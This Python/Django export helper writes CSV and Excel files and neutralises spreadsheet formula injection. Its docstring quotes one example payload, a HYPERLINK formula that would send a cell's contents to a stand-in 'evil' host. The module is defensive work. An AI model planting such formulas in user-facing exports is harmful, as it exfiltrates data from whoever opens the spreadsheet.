"""The one writer of every CSV and Excel file the product hands out.

Spreadsheet programs run a cell that starts with `= + - @` (or a tab or carriage return before
one) as a formula: `=HYPERLINK("http://evil/?"&A1, "点击")` in an incident title would become a
live link in an auditor's spreadsheet. So every value a user could have typed is written as
plain text: in CSV a cell starting with one of those characters gets a leading apostrophe
(`csv_cell`); in Excel every text cell is written with the string type, never as a formula
(`append_row`). Numbers, dates and booleans stay what they are. Apps build CSV with
`csv_lines`/`csv_bytes` and workbooks with `xlsx_bytes`, or with `new_workbook` + `append_row`
when they need their own layout.
"""

import csv
import io

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def excel_cell(value):
    """Aware datetimes in Asia/Shanghai (Excel has no time zones), numbers and dates as such,
    everything else as text."""
    if hasattr(value, "tzinfo") and getattr(value, "tzinfo", None) is not None:
        return timezone.localtime(value).replace(tzinfo=None)
    if value is None:
        return ""
    if isinstance(value, int | float) or hasattr(value, "isoformat"):
        return value
    return str(value)


def csv_cell(value) -> str:
    """A CSV cell: dates in ISO form, text that a spreadsheet would run as a formula prefixed
    with an apostrophe."""
    value = excel_cell(value)
    if hasattr(value, "isoformat"):
        return value.isoformat(sep=" ") if hasattr(value, "hour") else value.isoformat()
    text = str(value)
    if isinstance(value, str) and text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class _Echo:
    def write(self, value):
        return value


def csv_lines(header, rows):
    """Lines of a UTF-8 CSV with a byte-order mark (which Excel needs to read Chinese)."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([csv_cell(h) for h in header])
    for row in rows:
        yield writer.writerow([csv_cell(v) for v in row])


def csv_bytes(header, rows) -> bytes:
    return "".join(csv_lines(header, rows)).encode("utf-8")


def _text(value: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", value)


def append_row(ws, values, *, font=None):
    """Append one row to a sheet (normal or write-only); text is always a string cell, so a
    leading "=" stays text and is never a formula."""
    prepared = [None if v is None else excel_cell(v) for v in values]
    prepared = [_text(v) if isinstance(v, str) else v for v in prepared]
    if isinstance(ws, WriteOnlyWorksheet):
        cells = []
        for value in prepared:
            cell = WriteOnlyCell(ws, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
            if font is not None:
                cell.font = font
            cells.append(cell)
        ws.append(cells)
        return
    ws.append(prepared)
    for cell, value in zip(ws[ws.max_row], prepared, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"
        if font is not None:
            cell.font = font


def new_workbook(*, write_only: bool = False) -> Workbook:
    wb = Workbook(write_only=write_only)
    if not write_only:
        wb.remove(wb.active)
    return wb


def xlsx_bytes(sheets: list[tuple[str, list, list[list]]]) -> bytes:
    """sheets: [(title, header, rows)]; bold header, columns sized to the header."""
    wb = new_workbook()
    for title, header, rows in sheets:
        ws = wb.create_sheet(str(title)[:31])
        append_row(ws, [str(h) for h in header], font=Font(bold=True))
        for row in rows:
            append_row(ws, row)
        for i, h in enumerate(header, start=1):
            ws.column_dimensions[ws.cell(row=1, column=i).column_letter].width = max(
                12, min(50, len(str(h)) * 2 + 4)
            )
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def download(content: bytes, content_type: str, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
